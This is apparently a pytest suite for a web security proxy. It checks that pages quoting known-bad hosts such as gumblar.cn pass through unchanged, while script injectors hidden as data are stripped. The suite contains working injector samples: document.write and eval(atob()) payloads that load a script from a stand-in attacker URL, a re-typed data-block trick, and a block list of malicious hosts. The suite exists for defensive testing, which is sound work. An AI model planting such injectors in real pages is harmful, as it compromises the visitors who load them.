"""Pages that quote blocked origins render through `jectguard run`, byte for byte (issue 17).

A local origin serves the shapes a security team reads every day, each naming
hosts the proxy blocks (``evil.test`` on the test's domain list, the attacker's
address on its IP list, ``gumblar.cn`` and ``217.107.218.147`` from the shipped
signatures):

- a Next.js-style page whose article lives in ``<script id="__NEXT_DATA__"
  type="application/json">``; the page's only script reads it and writes the
  article into the DOM;
- a news article with a JSON-LD record naming ``http://www.nihaorr1.com/1.js``;
- a code viewer whose ``application/json`` payload is ``blocklists/builtin.txt``;
- a link checker whose inline script holds the hosts as data;
- prose.

Through the real proxy each page arrives with the same bytes as directly, renders
in Chromium (its scripts ran and wrote what they read), and the SOC gets a
``strip`` event with ``removed: false`` (reason ``mention``) for each quoting
script. The attacker who hides an injector as data for an eval-like sink, or a
blocked ``src`` on a data block that a second script re-types and inserts again,
is still stripped: a control proxy with stripping off shows the same page does
request the attacker.
"""

from __future__ import annotations

import base64
import http.client
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from .conftest import ATTACKER_IP, NAV_TIMEOUT_MS, ByteCounter, Proxy, serve_app, start_proxy

ROOT = Path(__file__).resolve().parents[2]
BUILTIN = (ROOT / "blocklists" / "builtin.txt").read_text()
# After "load": time for a late request toward the attacker (absence needs a window).
SETTLE_SECONDS = 0.5
EVENT_TIMEOUT = 10.0


def _page(title: str, body: str) -> str:
    return (
        f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>{title}</title></head>'
        f"<body>\n{body}\n</body></html>\n"
    )


def _json_in_html(value: object) -> str:
    # As frameworks do: "</" never appears inside the element's text.
    return json.dumps(value).replace("</", "<\\/")


POST = {
    "title": "Gumblar and Download.Ject, revisited",
    "body": "Gumblar pulled its payload from gumblar.cn (later martuz.cn); Download.Ject "
    "loaded http://217.107.218.147/dot.php from every page; this year's wave used "
    "http://evil.test/x.js.",
}
NEXT_PAGE = _page(
    "Threat report",
    '<div id="__next"><h1 id="title">loading</h1><div id="article">not rendered</div></div>\n'
    '<script id="__NEXT_DATA__" type="application/json">'
    + _json_in_html({"props": {"pageProps": {"post": POST}}, "page": "/posts/[slug]"})
    + "</script>\n<script>\n"
    "const data = JSON.parse(document.getElementById('__NEXT_DATA__').textContent);\n"
    "const post = data.props.pageProps.post;\n"
    "document.getElementById('title').textContent = post.title;\n"
    "const p = document.createElement('p');\n"
    "p.textContent = post.body;\n"
    "document.getElementById('article').replaceChildren(p);\n"
    "</script>",
)

ARTICLE = {
    "@context": "https://schema.org",
    "@type": "NewsArticle",
    "headline": "Mass SQL injection appends a script to ASP pages",
    "articleBody": "Infected pages end with <script src=http://www.nihaorr1.com/1.js></script>;"
    " the copycat wave loads http://evil.test/1.js.",
}
JSONLD_PAGE = _page(
    "Asprox",
    '<h1 id="headline">loading</h1><p id="body"></p>\n'
    f'<script type="application/ld+json">{_json_in_html(ARTICLE)}</script>\n'
    "<script>\n"
    "const ld = JSON.parse(document.querySelector('script[type=\"application/ld+json\"]').text);\n"
    "document.getElementById('headline').textContent = ld.headline;\n"
    "document.getElementById('body').textContent = ld.articleBody;\n"
    "</script>",
)

VIEWER_LINES = BUILTIN.splitlines() + ["evil.test"]
VIEWER_PAGE = _page(
    "builtin.txt",
    '<pre id="code">loading</pre>\n'
    '<script type="application/json" id="embedded">'
    + _json_in_html({"payload": {"blob": {"rawLines": VIEWER_LINES}}})
    + "</script>\n<script>\n"
    "const blob = JSON.parse(document.getElementById('embedded').textContent).payload.blob;\n"
    "document.getElementById('code').textContent = blob.rawLines.join('\\n');\n"
    "</script>",
)

CHECKER_PAGE = _page(
    "Advisory",
    '<p>Sample: <a id="sample" href="http://evil.test/">the landing page</a>.</p>\n'
    "<script>\n"
    "// Flag links to hosts from the advisory.\n"
    'const KNOWN_BAD = ["gumblar.cn", "martuz.cn", "evil.test"];\n'
    "for (const a of document.querySelectorAll('a[href]')) {\n"
    "  const host = a.hostname.toLowerCase();\n"
    "  if (KNOWN_BAD.some((h) => host === h || host.endsWith('.' + h))) {\n"
    "    a.classList.add('ioc');\n"
    "    a.removeAttribute('href');\n"
    "  }\n"
    "}\n"
    "</script>",
)

PROSE_PAGE = _page(
    "Prose",
    '<p id="prose">The script loaded from gumblar.cn, later martuz.cn and evil.test; '
    "Download.Ject used http://217.107.218.147/dot.php.</p>",
)

QUOTING = {
    "next": NEXT_PAGE,
    "jsonld": JSONLD_PAGE,
    "viewer": VIEWER_PAGE,
    "checker": CHECKER_PAGE,
    "prose": PROSE_PAGE,
}


def _hidden_writer(attacker_url: str) -> str:
    # The markup held "as data" in an array, written by an index.
    return _page(
        "Shop",
        '<p id="own">own script did not run</p>\n'
        "<script>document.getElementById('own').textContent = 'own script ran';</script>\n"
        f"<script>var parts = ['<script src=\"{attacker_url}\"></scr' + 'ipt>'];"
        "document.write(parts[0]);</script>",
    )


def _hidden_eval(attacker_url: str) -> str:
    code = f"document.write('<script src=\"{attacker_url}\"></scr' + 'ipt>')"
    payload = base64.b64encode(code.encode()).decode()
    return _page(
        "Shop",
        '<p id="own">own script did not run</p>\n'
        "<script>document.getElementById('own').textContent = 'own script ran';</script>\n"
        f"<script>var cfg = {{v: '{payload}'}}; eval(atob(cfg.v));</script>",
    )


def _retyped_data_block(attacker_url: str) -> str:
    # Chromium fetches nothing for a text/plain script, but one that is given a
    # JavaScript type and inserted again loads (it never "started").
    return _page(
        "Shop",
        '<p id="own">own script did not run</p>\n'
        "<script>document.getElementById('own').textContent = 'own script ran';</script>\n"
        f'<script type="text/plain" id="later" src="{attacker_url}"></script>\n'
        "<script>var d = document.getElementById('later');"
        "if (d) { d.type = ''; document.body.appendChild(d); }</script>",
    )


INJECTORS = {
    "hidden-writer": _hidden_writer,
    "hidden-eval": _hidden_eval,
    "retyped-data-block": _retyped_data_block,
}


@dataclass
class Site:
    port: int = 0
    tls_port: int = 0
    attacker_url: str = "http://attacker.invalid/x.js"

    def body(self, name: str) -> bytes:
        if name in INJECTORS:
            return INJECTORS[name](self.attacker_url).encode()
        return QUOTING[name].encode()


def _site_app(site: Site) -> web.Application:
    async def page(request: web.Request) -> web.Response:
        name = request.match_info["name"]
        if name not in QUOTING and name not in INJECTORS:
            raise web.HTTPNotFound()
        return web.Response(body=site.body(name), content_type="text/html", charset="utf-8",
                            headers={"Cache-Control": "no-store"})  # fmt: skip

    app = web.Application()
    app.router.add_get("/{name}", page)
    return app


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = Site()
    with serve_app(_site_app(s), tmp_path_factory.mktemp("site"), "mentions") as served:
        s.port, s.tls_port = served.port, served.tls_port
        yield s


@pytest.fixture(scope="module")
def proxy_nostrip(tmp_path_factory: pytest.TempPathFactory, lists_dir: Path) -> Iterator[Proxy]:
    p = start_proxy(
        tmp_path_factory.mktemp("mentions-nostrip"),
        "--sources", str(lists_dir / "sources.toml"),
        "--set", "ssl_insecure=true",
        "--set", "jg_strip=false",
    )  # fmt: skip
    try:
        yield p
    finally:
        p.stop()


def _get(proxy_port: int, url: str) -> bytes:
    """GET ``url`` through the proxy (or directly, for port 0); the raw body."""
    host, _, rest = url.partition("//")[2].partition("/")
    if proxy_port:
        conn = http.client.HTTPConnection("127.0.0.1", proxy_port, timeout=30)
        target = url
    else:
        conn = http.client.HTTPConnection("127.0.0.1", int(host.partition(":")[2]), timeout=30)
        target = "/" + rest
    try:
        conn.request("GET", target, headers={"Host": host})
        resp = conn.getresponse()
        assert resp.status == 200
        return resp.read()
    finally:
        conn.close()


def _strip_events(proxy: Proxy, url: str) -> list[dict[str, Any]]:
    out = []
    for line in proxy.output().splitlines():
        if not line.startswith("{"):
            continue
        try:
            event = json.loads(line)
        except ValueError:
            continue
        if event.get("event") == "strip" and event.get("url") == url:
            out.append(event)
    return out


def _wait_for_strip_events(proxy: Proxy, url: str) -> list[dict[str, Any]]:
    deadline = time.monotonic() + EVENT_TIMEOUT
    while time.monotonic() < deadline:
        found = _strip_events(proxy, url)
        if found:
            return found
        time.sleep(0.05)
    return []


def _open(browser: Any, proxy: Proxy, url: str) -> tuple[Any, Any]:
    context = browser.new_context(proxy={"server": proxy.url}, ignore_https_errors=True)
    page = context.new_page()
    page.set_default_timeout(NAV_TIMEOUT_MS)
    page.goto(url, wait_until="load", timeout=NAV_TIMEOUT_MS)
    return context, page


@pytest.mark.parametrize("name", sorted(QUOTING))
def test_quoting_pages_pass_byte_for_byte(proxy: Proxy, site: Site, name: str) -> None:
    url = f"http://good.test:{site.port}/{name}"
    direct = _get(0, url)
    assert direct == site.body(name)
    assert _get(proxy.port, url) == direct
    if name == "prose":
        return  # the text of a paragraph is never judged
    events = _wait_for_strip_events(proxy, url)
    assert events, "the SOC sees the mention"
    for e in events:
        assert e["removed"] is False and e["reason"] == "mention" and e["verdict"] == "monitor"
        assert e["element"] == "script"


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_next_data_article_renders(browser: Any, proxy: Proxy, site: Site, scheme: str) -> None:
    port = site.port if scheme == "http" else site.tls_port
    url = f"{scheme}://good.test:{port}/next"
    context, page = _open(browser, proxy, url)
    try:
        page.wait_for_function("document.getElementById('title').textContent !== 'loading'")
        assert page.inner_text("#title") == POST["title"]
        article = page.inner_text("#article")
        assert article == POST["body"]
        assert "gumblar.cn" in article and "217.107.218.147" in article
        assert page.evaluate("document.getElementById('__NEXT_DATA__') !== null")
    finally:
        context.close()
    events = _wait_for_strip_events(proxy, url)
    assert events and all(e["removed"] is False and e["reason"] == "mention" for e in events)


def test_jsonld_viewer_checker_and_prose_render(browser: Any, proxy: Proxy, site: Site) -> None:
    base = f"http://good.test:{site.port}"
    context, page = _open(browser, proxy, f"{base}/jsonld")
    try:
        page.wait_for_function("document.getElementById('headline').textContent !== 'loading'")
        assert page.inner_text("#headline") == ARTICLE["headline"]
        assert "nihaorr1.com/1.js" in page.inner_text("#body")
        page.goto(f"{base}/viewer", wait_until="load")
        page.wait_for_function("document.getElementById('code').textContent !== 'loading'")
        code = page.evaluate("document.getElementById('code').textContent")
        assert code.splitlines() == VIEWER_LINES
        page.goto(f"{base}/checker", wait_until="load")
        assert page.evaluate("document.getElementById('sample').className") == "ioc"
        assert page.evaluate("document.getElementById('sample').hasAttribute('href')") is False
        page.goto(f"{base}/prose", wait_until="load")
        assert "gumblar.cn" in page.inner_text("#prose")
    finally:
        context.close()


def _attacker_requests(proxy: Proxy, attacker_url: str) -> list[str]:
    """Proxy log lines showing a request for the attacker (its ip:port is unique per test)."""
    where = attacker_url.split("/")[2]
    return [
        line for line in proxy.output().splitlines()
        if where in line and '"event":"strip"' not in line
    ]  # fmt: skip


@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_injector_hidden_as_data_is_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy, site: Site, attacker: ByteCounter,
    name: str,
) -> None:  # fmt: skip
    assert ATTACKER_IP is not None
    site.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/{name}.js"
    url = f"http://good.test:{site.port}/{name}"
    # The control: stripping off, Chromium runs the injector and asks for the attacker
    # (the blocking addon refuses the request).
    context, page = _open(browser, proxy_nostrip, url)
    try:
        assert page.inner_text("#own") == "own script ran"
        deadline = time.monotonic() + 5
        while not _attacker_requests(proxy_nostrip, site.attacker_url):
            assert time.monotonic() < deadline, "the control page never requested the attacker"
            time.sleep(0.05)
    finally:
        context.close()
    context, page = _open(browser, proxy, url)
    try:
        assert page.inner_text("#own") == "own script ran"
        time.sleep(SETTLE_SECONDS)
        html = page.content()
    finally:
        context.close()
    assert "document.write" not in html and "eval(" not in html and 'id="later"' not in html
    assert _attacker_requests(proxy, site.attacker_url) == []
    assert attacker.connections == 0 and attacker.received == b""
    events = _wait_for_strip_events(proxy, url)
    reason = "blocked-url" if name == "retyped-data-block" else "inline-reference"
    assert any(e["removed"] is True and e["reason"] == reason for e in events), events
